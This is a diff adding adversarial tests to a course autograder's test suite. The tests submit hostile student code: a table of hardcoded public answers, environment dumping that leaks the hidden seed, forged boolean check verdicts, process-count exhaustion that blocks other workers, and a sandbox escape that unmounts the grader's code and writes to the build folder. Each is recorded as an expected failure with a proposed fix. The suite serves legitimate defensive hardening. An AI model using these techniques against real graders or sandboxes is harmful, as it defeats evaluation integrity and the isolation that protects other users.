@@ -22,6 +22,15 @@ broke the run, reproduced, now earns nothing (and is flagged) or costs only its 
   value records   read, authenticated and compared with the trusted run: wrong values under a
                   passed verdict fail, forged or misplaced records are tampering
 
+  round 2         (helper atk2, chapter 3 against the value records; expected failures where the
+                  attack still pays) a table of the public answers is gated by the hidden checks,
+                  but not without a trusted run (then every withheld check passes) nor for a case
+                  the trusted run did not report; the hidden seed is printable and the same on every
+                  resubmission; boolean checks forged in memory; a renamed duplicate submission takes
+                  another student's name; one worker's test process stops another's from starting
+                  (the shared user's process count); student code run as root with every capability
+                  when the worker's folders are not world-readable
+
 The grading runs share the worker builds of test_grade.py ($WB_TOOLS_TEST_WORKDIR/grade-work)."""
 from __future__ import annotations
 
@@ -922,3 +931,368 @@ class CommandLine(unittest.TestCase):
 
 if __name__ == "__main__":
     unittest.main()
+
+
+# ------------------------------------------------------------------------------------------------
+# Round 2 (helper atk2, 2026-12-04): the value records (records.py) against a hostile student,
+# chapter 3 (the chapter whose hidden file is converted to WB_EXPECTED). What held: forging needs
+# the right numbers; a table of the public answers with anything else elsewhere is gated to 0 by
+# the hidden checks (TABLE8 below, with the trusted run); fewer or more records than the trusted run
+# fail. What did not hold is below, each an expected failure with the score it got.
+# ------------------------------------------------------------------------------------------------
+
+# 3.8 with no formula: the public tests' inputs and answers as a table, 1 anywhere else.
+TABLE8 = r'''#include <cmath>
+#include "regression.hpp"
+double ch3::brute_force_seconds(std::size_t parameters, double grid_points, double seconds_per_trial) {
+    struct Row { std::size_t p; double g, s, out; };
+    static const Row rows[] = {{2, 10, 1, 100}, {1, 1000, 0.05 / 1000, 0.05}, {2, 1000, 0.05 / 1000, 50},
+                               {3, 1000, 0.05 / 1000, 50000}, {9, 1000, 0.05 / 1000, 5e22}, {0, 1000, 0.25, 0.25}};
+    for (const Row& r : rows)
+        if (r.p == parameters && r.g == grid_points && r.s == seconds_per_trial) return r.out;
+    return 1.0;
+}
+'''
+
+# The submission's hidden seed in a public case's (visible) message: no getenv, no /proc, no flag.
+LEAK8 = r'''#include <stdexcept>
+#include <string>
+#include "regression.hpp"
+extern char** environ;
+double ch3::brute_force_seconds(std::size_t, double, double) {
+    std::string all;
+    for (char** e = environ; e && *e; ++e) all += std::string(*e) + " ";
+    throw std::runtime_error("ENV[" + all + "]");
+}
+'''
+
+# 3.1 with the right values but no shape validation (no check_network): its two shape-error cases
+# fail honestly. OBSERVER_PATCH with the JUnit log silenced turns them into signed passes; those cases
+# are boolean checks (expect_shape_error), with no value record for the trusted run to contradict.
+BOOL_FORWARD = r'''
+ch3::Forward ch3::forward(const Matrix& X, const Matrix& W1, const Matrix& W2) {
+    @TAME@
+    Forward fw;
+    fw.Z2 = xt::linalg::dot(X, W1);
+    fw.a2 = wb::given::sigmoid(fw.Z2);
+    fw.Z3 = xt::linalg::dot(fw.a2, W2);
+    fw.f = wb::given::sigmoid(fw.Z3);
+    return fw;
+}
+'''
+
+
+def bool_forward(forge: bool) -> str:
+    head = '#include <xtensor-blas/xlinalg.hpp>\n#include "regression.hpp"\n#include "workbook/given.hpp"\n'
+    if not forge:
+        return head + BOOL_FORWARD.replace("@TAME@", "")
+    patch = OBSERVER_PATCH.replace("#include <link.h>\n", "#include <link.h>\n#include <fcntl.h>\n#include <unistd.h>\n"
+                                   "#include <string>\n", 1).replace("    g_done = 1;\n", "    g_done = 1;\n" + SILENCE_LOG, 1)
+    return head + patch + BOOL_FORWARD.replace("@TAME@", "tame_the_observer();")
+
+
+# No trusted run (Worker.trusted_records() returns None when the trusted build is missing, as in an
+# instructor tree without solutions/ or a Gradescope image whose worker was reconfigured after
+# setup.sh deleted solutions/): the same ./workbook grade with that one method replaced.
+NO_TRUSTED_GRADE = r'''
+import sys
+sys.path.insert(0, sys.argv[1])
+from wb.grading import worker
+worker.Worker.trusted_records = lambda self, c: None
+from wb import cli
+sys.exit(cli.main(sys.argv[2:]))
+'''
+
+
+def grade_ch3(out: Path, *subs, extra=(), runner=None) -> subprocess.CompletedProcess:
+    args = ["grade", "-q", "--chapters", "3", "--secret", "a-course-secret", "-o", str(out), "--work", str(GRADE_WORK),
+            *extra, *map(str, subs)]
+    if runner is None:
+        return workbook(*args)
+    return subprocess.run([sys.executable, "-c", runner, str(ROOT / "tools"), *args], capture_output=True, text=True,
+                          env=env(), timeout=2400)
+
+
+@unittest.skipUnless(CHAPTERS == "1,3", "chapter 3 has not landed")
+class AttacksRound2(unittest.TestCase):
+    """Chapter 3 against the value records: one grading run for most attacks, small extra runs."""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.tmp = Path(tempfile.mkdtemp(prefix="wb-attacks2-"))
+        s = cls.tmp / "subs"
+        ch = "chapters/03_regression/"
+        put(s / "table8", ch + "ex8_brute_force_seconds.cpp", TABLE8)
+        put(s / "leak", ch + "ex8_brute_force_seconds.cpp", LEAK8)
+        put(s / "leak_v2", ch + "ex8_brute_force_seconds.cpp", LEAK8 + "// the same code, one comment more\n")
+        put(s / "boolforge", ch + "ex1_forward.cpp", bool_forward(True))
+        put(s / "boolhonest", ch + "ex1_forward.cpp", bool_forward(False))
+        cls.out = cls.tmp / "out"
+        cls.proc = grade_ch3(cls.out, *(s / n for n in ("table8", "leak", "boolforge", "boolhonest")))
+        # the same student (--name) graded again with one comment more
+        cls.out_v2 = cls.tmp / "out-v2"
+        cls.proc_v2 = grade_ch3(cls.out_v2, s / "leak_v2", extra=("--name", "leak"))
+        # no trusted run at all
+        cls.out_nt = cls.tmp / "out-no-trusted"
+        cls.proc_nt = grade_ch3(cls.out_nt, s / "table8", runner=NO_TRUSTED_GRADE)
+        # two submissions named alice (a folder and a resubmission elsewhere) and a student alice-2
+        put(s / "x" / "alice", ch + "ex8_brute_force_seconds.cpp", TABLE8)
+        solution_tree(s / "y" / "alice", ("03",))
+        put(s / "z" / "alice-2", ch + "ex8_brute_force_seconds.cpp", LEAK8)
+        cls.out_dup = cls.tmp / "out-dup"
+        cls.proc_dup = grade_ch3(cls.out_dup, s / "x" / "alice", s / "y" / "alice", s / "z" / "alice-2")
+
+    @classmethod
+    def tearDownClass(cls):
+        shutil.rmtree(cls.tmp, ignore_errors=True)
+
+    def results(self, name: str, out: Path | None = None) -> dict:
+        return json.loads(((out or self.out) / name / "results.json").read_text())
+
+    def score(self, name: str, ex: str, out: Path | None = None) -> float:
+        return round(sum(t["score"] for t in self.results(name, out)["tests"] if t["name"].startswith(ex + " ")), 4)
+
+    def visible_output(self, name: str, out: Path | None = None) -> str:
+        r = self.results(name, out)
+        return r["output"] + "\n".join(t["output"] for t in r["tests"] if t["visibility"] == "visible")
+
+    def test_the_runs_complete(self):
+        for p in (self.proc, self.proc_v2, self.proc_nt, self.proc_dup):
+            self.assertEqual(p.returncode, 0, p.stdout[-3000:] + p.stderr[-3000:])
+
+    def test_public_answers_as_a_table_are_gated(self):
+        # held: the hidden check's recorded 1.0 disagrees with the trusted run's value
+        self.assertEqual(self.score("table8", "3.8"), 0)
+        self.assertIn("do not agree with the reference solution's run", (self.out / "table8" / "report.txt").read_text())
+
+    @unittest.expectedFailure
+    def test_without_a_trusted_run_a_table_of_public_answers_is_not_gated(self):
+        # 2026-12-04: 10/10 on 3.8 (the report only notes "no trusted run"). Since chapter 3's hidden
+        # checks withhold their expected values (WB_EXPECTED) in the student's build, without a
+        # trusted run nothing compares them at all: every finite value passes them, so the gate of
+        # issue 13 (a constant earns 0) is gone. Expected: a withheld check that no trusted run
+        # confirms does not pass (or the grader refuses to grade the chapter without its trusted run).
+        self.assertEqual(self.score("table8", "3.8", self.out_nt), 0)
+
+    @unittest.expectedFailure
+    def test_the_hidden_seed_changes_with_the_submitted_code(self):
+        # 2026-12-04: the seed (HMAC(secret, submission name or student id)) is in the environment of
+        # every test process, so a public case can print it in a visible message (LEAK8: "threw an
+        # exception: ... WB_HIDDEN_SEED=s1-..."; no getenv, so not even a "review" line), and the
+        # same student gets the same seed, hence the same hidden inputs, on every submission: what
+        # one grading teaches about them (the hidden cases' messages, shown after the due date, carry
+        # the sizes and the trusted run's expected values; the generator is one grading-only file
+        # away from the seed) stays valid for every later one, and a table of those answers passes
+        # the gate. Expected: the seed also depends on the submitted files (or a nonce per grading,
+        # kept in the report), so a resubmission with a table in it draws other inputs.
+        import re
+        seeds = [re.findall(r"WB_HIDDEN_SEED=(\S+)", self.visible_output("leak", out)) for out in (self.out, self.out_v2)]
+        self.assertTrue(seeds[0] and seeds[1], seeds)
+        self.assertNotEqual(seeds[0][0], seeds[1][0])
+
+    @unittest.expectedFailure
+    def test_a_renamed_duplicate_does_not_take_another_students_name(self):
+        # 2026-12-04: the second "alice" is renamed "alice-2" without looking at the other names: the
+        # student alice-2's own submission becomes "alice-2-2", and the gradebook's row "alice-2" (and
+        # OUT/alice-2/, and the hidden seed HMAC(secret, "alice-2")) carries the second alice's 80/80
+        # while alice-2 (who scored 0) is listed under a name that is no one's. Expected: a duplicate's
+        # new name is not another submission's name (or duplicates are refused).
+        import csv
+        with open(self.out_dup / "gradebook.csv", newline="") as f:
+            rows = {r["submission"]: r for r in csv.DictReader(f)}
+        report = (self.out_dup / "alice-2" / "report.txt").read_text()
+        self.assertIn("z/alice-2", report.splitlines()[0], f"alice-2's row: {rows.get('alice-2')}")
+
+    @unittest.expectedFailure
+    def test_forged_boolean_checks_earn_nothing(self):
+        # 2026-12-04: 3.1 without shape validation scores 6.6668/10 honestly (boolhonest: the two
+        # shape-error cases fail) and 10/10 with OBSERVER_PATCH and the JUnit log silenced, unflagged:
+        # expect_shape_error is a boolean check, with no value record (README: "what is left").
+        honest = self.score("boolhonest", "3.1")
+        self.assertLess(honest, 10)
+        self.assertLessEqual(self.score("boolforge", "3.1"), honest)
+
+
+class TrustedComparison(unittest.TestCase):
+    """worker.check_values at the unit level."""
+
+    def rec(self, payload: str):
+        from wb.grading import records
+        return records.parse(0, payload)
+
+    @unittest.expectedFailure
+    def test_a_case_the_trusted_run_did_not_report_does_not_pass_unchecked(self):
+        # 2026-12-04: check_values skips a case the trusted run did not report (it failed, timed out,
+        # or the trusted program died before it): the student's own signed verdict decides it, which
+        # in-process code can forge (OBSERVER_PATCH), and a withheld hidden check has no expected value
+        # in the student's process at all. Expected: such a case fails (or is flagged for review).
+        from wb.grading.worker import check_values
+        trusted = {"ex3_8_brute_force_seconds/hand_worked":
+                   [self.rec("k=close;at=t.cpp:1;w=s;a=s;v=100;e=s;ev=100;tol=0,1e-15")]}
+        values = {"hidden/random_grids": [self.rec("k=close;at=h.cpp:135;w=s;a=s;v=1")]}
+        failing = check_values({"hidden/random_grids": "P"}, values, trusted, "ex3_8_brute_force_seconds")
+        self.assertIn("hidden/random_grids", failing)
+
+    @unittest.expectedFailure
+    def test_without_a_trusted_run_a_withheld_check_does_not_pass(self):
+        # 2026-12-04: check_values(..., trusted=None) accepts every signed verdict; for a hidden check
+        # whose expected value was withheld (a record without "ev"), nothing was compared anywhere.
+        from wb.grading.worker import check_values
+        values = {"hidden/random_grids": [self.rec("k=close;at=h.cpp:135;w=s;a=s;v=1")]}
+        self.assertIn("hidden/random_grids", check_values({"hidden/random_grids": "P"}, values, None,
+                                                          "ex3_8_brute_force_seconds"))
+
+
+class SharedTestUser(unittest.TestCase):
+    """Every worker runs its test processes as the same user (nobody) under RLIMIT_NPROC = 64, and
+    the kernel counts that user's tasks system-wide: one test process that holds 64 tasks (plain
+    std::thread, nothing the integrity scan flags) and any second test process running in another
+    worker make every test process a third worker starts fail: setpriv's execve as nobody returns
+    EAGAIN ("setpriv: failed to execute ...: Resource temporarily unavailable", exit code 126), and
+    its cases score 0 as "no result". Reproduced end to end on 2026-12-04 with -j 3 (user moved to
+    uid 65530 so no other grading on the machine was touched): a submission whose 3.1-3.4 start 100
+    sleeping threads each, graded with 40 copies of the reference solutions; two of the 40 lost points
+    through no fault of theirs (76/80: 3.7 "no result"; 75/80: 3.5 "no result"), unflagged. Two such
+    submissions graded at once (two colluding students, -j 3) would make it every submission of the
+    third worker for minutes. Here: the same three processes through three workers' sandboxes, with
+    a private uid. Expected: each worker's test user is its own (a uid per worker, or a user
+    namespace per run), so that another worker's processes never count against it."""
+
+    @unittest.skipUnless(os.geteuid() == 0 and shutil.which("bwrap") and shutil.which("setpriv"),
+                         "needs root, bubblewrap and setpriv (the grader's user switch)")
+    @unittest.expectedFailure
+    def test_a_test_process_holding_the_users_process_count_stops_other_workers(self):
+        from wb.grading import config, sandbox as sbm
+        from wb.grading.worker import Worker
+        tmp = Path(tempfile.mkdtemp(prefix="wb-nproc-"))
+        saved = sbm.NOBODY
+        sbm.NOBODY = 65531   # a uid no one else uses here: nothing else on this machine is touched
+        procs = []
+        try:
+            base = sbm.detect("bwrap")
+            if not base.drop_user:
+                self.skipTest("the sandbox does not switch users here")
+            cfg = config.load()
+            workers = [Worker(k, tmp / "work", [], cfg, base) for k in (1, 2, 3)]
+            scratch = tmp / "scratch"
+            scratch.mkdir(mode=0o777)
+            os.chmod(scratch, 0o777)
+
+            def start(w, script):
+                cmd = w.sandbox.run_cmd(["sh", "-c", script], scratch, [], w.limits)
+                p = subprocess.Popen(cmd, env=w.sandbox.env(), stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
+                                     start_new_session=True)
+                procs.append(p)
+                return p
+
+            # worker 1: a test process holding 64 tasks (the shell and 63 children)
+            start(workers[0], "i=0; while [ $i -lt 63 ]; do sleep 30 & i=$((i+1)); done; wait")
+            # worker 2: an honest test process, running
+            import time
+            time.sleep(2)
+            start(workers[1], "exec sleep 30")
+            time.sleep(2)
+            # worker 3: the next test process starts
+            third = start(workers[2], "echo started")
+            out, _ = third.communicate(timeout=60)
+            self.assertEqual((third.returncode, out.decode().strip()), (0, "started"))
+        finally:
+            import signal
+            for p in procs:
+                try:
+                    os.killpg(p.pid, signal.SIGKILL)
+                except ProcessLookupError:
+                    pass
+                p.communicate()
+            sbm.NOBODY = saved
+            shutil.rmtree(tmp, ignore_errors=True)
+
+
+# What the test process can undo of the sandbox when it runs as root: the grader's own code
+# (tools/wb/grading, hidden by a tmpfs) unmounted into view, the worker's build folder remounted
+# read-write and written to. The paths are the test's; a real attacker reads /proc/self/mountinfo.
+ROOT_PROBE = r'''#include <dirent.h>
+#include <sys/mount.h>
+#include <fstream>
+#include <stdexcept>
+#include <string>
+#include "regression.hpp"
+static std::string list(const std::string& d) {
+    std::string s;
+    if (DIR* p = opendir(d.c_str())) {
+        while (dirent* e = readdir(p)) s += std::string(e->d_name) + ",";
+        closedir(p);
+    }
+    return s;
+}
+double ch3::brute_force_seconds(std::size_t, double, double) {
+    std::string msg;
+    {
+        std::ifstream f("/proc/self/status");
+        std::string l;
+        while (std::getline(f, l))
+            if (l.rfind("Uid", 0) == 0 || l.rfind("CapEff", 0) == 0) msg += l + "; ";
+    }
+    const std::string hidden = "@ROOT@/tools/wb/grading", build = "@BUILD@";
+    msg += "before=[" + list(hidden) + "] ";
+    msg += "umount=" + std::to_string(umount2(hidden.c_str(), MNT_DETACH)) + " grader=[" + list(hidden) + "] ";
+    msg += "remount=" + std::to_string(mount(nullptr, build.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr));
+    std::ofstream(build + "/written-by-a-student") << "a student's test process wrote this\n";
+    throw std::runtime_error("PROBE " + msg);
+}
+'''
+
+
+@unittest.skipUnless(CHAPTERS == "1,3", "chapter 3 has not landed")
+@unittest.skipUnless(os.geteuid() == 0 and shutil.which("bwrap") and shutil.which("setpriv"),
+                     "needs root, bubblewrap and setpriv (the grader's user switch)")
+class RootFallback(unittest.TestCase):
+    """Worker.prepare() quietly stops switching to user nobody when the worker's build folder, the
+    tree or its datasets are not readable by others (a checkout made under umask 027, a build folder
+    made 0750), and _self_check() does the same when the stubs' tests do not run as nobody (which
+    another grading run's test process can cause: SharedTestUser). The tests then run as root inside
+    bubblewrap, which as root keeps every capability (CapEff 000001fffeffffff): on 2026-12-04, with
+    worker-1/build at 0750, a 3.8 of 25 lines, no flagged name (umount2, mount, opendir), unmounted
+    the tmpfs over tools/wb/grading and listed the grader's code, remounted the build folder
+    read-write and wrote a file into it (the test objects every later submission of the worker is
+    linked with), unflagged; the report's Sandbox line only lost "as user nobody". With CAP_MKNOD
+    and CAP_SYS_ADMIN, mounting the host's disk (solutions/, the trusted build, the course secret
+    in points.toml) is one step further. Expected: student code never runs as root: without a
+    working user switch the grader stops (or runs it in a user namespace, bwrap --unshare-user).
+    Sandbox.run_cmd now passes --cap-drop ALL when the process stays root (helper atk2; CapEff
+    0: the umount, the remount and the write fail); the process is still uid 0, so this stays an
+    expected failure until the fallback itself is gone."""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.tmp = Path(tempfile.mkdtemp(prefix="wb-attacks-root-"))
+        cls.build = (GRADE_WORK / "worker-1" / "build").resolve()
+        cls.mark = cls.build / "written-by-a-student"
+        put(cls.tmp / "subs" / "rootcaps", "chapters/03_regression/ex8_brute_force_seconds.cpp",
+            ROOT_PROBE.replace("@ROOT@", str(ROOT)).replace("@BUILD@", str(cls.build)))
+        cls.out = cls.tmp / "out"
+        if cls.build.is_dir():   # a worker that has never been prepared is made by the run below (0755)
+            os.chmod(cls.build, 0o750)
+        try:
+            cls.proc = grade_ch3(cls.out, cls.tmp / "subs" / "rootcaps")
+        finally:
+            if cls.build.is_dir():
+                os.chmod(cls.build, 0o755)
+        cls.written = cls.mark.exists()
+        cls.mark.unlink(missing_ok=True)
+
+    @classmethod
+    def tearDownClass(cls):
+        shutil.rmtree(cls.tmp, ignore_errors=True)
+
+    @unittest.expectedFailure
+    def test_student_code_never_runs_as_root(self):
+        # 2026-12-04: "PROBE Uid: 0 0 0 0; CapEff: 000001fffeffffff; ... umount=0 ... remount=0", and
+        # the file was written into the build folder (by hand, ./workbook grade with worker-1/build at
+        # 0750, the listing after the umount showed records.py, worker.py, ...; under this test's
+        # environment it comes out empty, so it is not asserted)
+        self.assertEqual(self.proc.returncode, 0, self.proc.stdout[-3000:] + self.proc.stderr[-3000:])
+        out = json.loads((self.out / "rootcaps" / "results.json").read_text())
+        probe = next(t["output"] for t in out["tests"] if "PROBE" in t["output"])
+        self.assertNotRegex(probe, r"Uid:\s+0\s")
+        self.assertFalse(self.written, "the test process wrote into the worker's build folder")
